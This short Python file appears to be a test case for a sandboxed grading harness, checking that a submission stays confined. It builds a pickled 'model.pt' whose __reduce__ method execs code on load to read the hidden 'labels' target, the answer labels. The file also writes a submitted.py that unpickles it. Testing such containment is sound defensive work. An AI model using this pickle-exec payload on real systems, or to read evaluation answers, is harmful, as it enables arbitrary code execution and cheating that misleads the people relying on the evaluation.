"""BLOCKED: a checkpoint that runs code when it is unpickled; what it starts is as confined as the rest."""

import pickle


class Bomb:
    def __reduce__(self):
        code = "from attempts import TARGETS, attempt; attempt('labels', lambda: open(TARGETS['labels']).read())"
        return exec, (code,)


def upload(folder):
    (folder / "model.pt").write_bytes(pickle.dumps(Bomb()))
    (folder / "submitted.py").write_text("import pickle\nfrom honest import *\npickle.load(open('model.pt', 'rb'))\n")
    return folder
